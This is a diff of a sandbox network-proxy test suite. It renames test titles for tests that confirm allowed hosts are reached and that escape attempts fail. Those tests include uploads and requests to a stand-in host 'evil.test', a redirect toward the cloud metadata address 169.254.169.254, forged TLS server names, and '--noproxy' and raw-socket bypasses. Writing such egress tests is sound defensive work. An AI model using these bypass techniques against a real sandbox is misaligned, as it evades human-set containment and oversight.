@@ -48,7 +48,7 @@ beforeAll(async () => {
 });
 afterAll(() => scope.disposeAsync());
 
-describe('what is allowed is reached', () => {
+describe('an allowed host is reached', () => {
   test('by HTTP and by HTTPS', async () => {
     expect(await curl(`http://good.test:${web.port}/`)).toMatchObject({
       stdout: `plain good.test:${web.port}`,
@@ -62,7 +62,7 @@ describe('what is allowed is reached', () => {
     expect(stdout.trim()).toBe(`plain good.test:${web.port}`);
   });
 
-  test('with bodies of any size, both ways', async () => {
+  test('with bodies of any size, in both directions', async () => {
     using files = makeDirectory();
     const body = Buffer.alloc(30_000_000, 'upload');
     writeFileSync(files.at('body'), body);
@@ -78,7 +78,7 @@ describe('what is allowed is reached', () => {
     expect([code, stdout]).toEqual([0, 'slow'.repeat(200)]);
   });
 
-  test('its own servers without the proxy', async () => {
+  test('while its own servers are reached without the proxy', async () => {
     const denials = proxy.denials.length;
     const { stdout } = await run(
       'sh',
@@ -90,8 +90,8 @@ describe('what is allowed is reached', () => {
   });
 });
 
-describe('what is not is refused, and the program reads why', () => {
-  test('a host', async () => {
+describe('a host that is not allowed is refused, with the reason for the program:', () => {
+  test('by HTTP and HTTPS', async () => {
     const { stdout } = await curl('http://evil.test/');
     expect(stdout).toContain('(rule: domains)');
     expect(stdout).toContain('evil.test is not an allowed domain');
@@ -104,7 +104,7 @@ describe('what is not is refused, and the program reads why', () => {
     expect(proxy.lookups).not.toContain('evil.test');
   });
 
-  test('an upload, though the program only listens when it has sent all', async () => {
+  test('an upload, although the program reads only after it has sent all', async () => {
     using files = makeDirectory({ body: Buffer.alloc(30_000_000) });
     const { code, stdout } = await curl('-H', 'Expect:', '--data-binary', `@${files.at('body')}`, 'http://evil.test/');
     expect([code, stdout]).toEqual([0, expect.stringContaining('(rule: domains)')]);
@@ -123,7 +123,7 @@ describe('what is not is refused, and the program reads why', () => {
     expect((await node(script)).stdout).toContain('(rule: domains)');
   });
 
-  test('the place a redirect leads to', async () => {
+  test('the target of a redirect', async () => {
     const { stdout } = await curl('-L', `http://good.test:${web.port}/away`);
     expect(stdout).toContain('169.254.169.254 is an address that no CIDR of the sandbox names');
   });
@@ -139,7 +139,7 @@ describe('what is not is refused, and the program reads why', () => {
     expect((await curl('--noproxy', '', url)).stdout).toContain('Blocked by the network policy');
   });
 
-  test('a forged name in the hello', async () => {
+  test('a forged server name in the TLS hello', async () => {
     const before = secureWeb.seen.bytes;
     const { code, stderr } = await curl(
       '--connect-to',
@@ -156,8 +156,8 @@ describe('what is not is refused, and the program reads why', () => {
   });
 });
 
-describe('there is no other way', () => {
-  test('past the proxy: neither the host nor anything beyond it', async () => {
+describe('a sandbox has no other way out:', () => {
+  test('none past the proxy: neither the host nor an address beyond it', async () => {
     const before = web.seen.connections;
     expect((await curl('--noproxy', '*', `http://127.0.0.1:${web.port}/`)).code).toBe(7);
     // An address for documentation, which nobody has.
@@ -177,13 +177,13 @@ describe('there is no other way', () => {
     expect((await node(script)).stdout.trim()).toBe('ENETUNREACH');
   });
 
-  test('the socket itself is the same proxy', async () => {
+  test('the socket of the proxy follows the same policy', async () => {
     const script = `const s = require('net').connect('/run/proxy.sock'); s.pipe(process.stdout); s.write('GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')`;
     expect((await node(script)).stdout).toContain('evil.test is not an allowed domain');
   });
 });
 
-test('a program that does not read holds the server back through relay and proxy', async () => {
+test('a program that does not read slows the server down through relay and proxy', async () => {
   const before = { ...web.seen };
   const script = `
     const s = require('net').connect(3128, '127.0.0.1').pause();
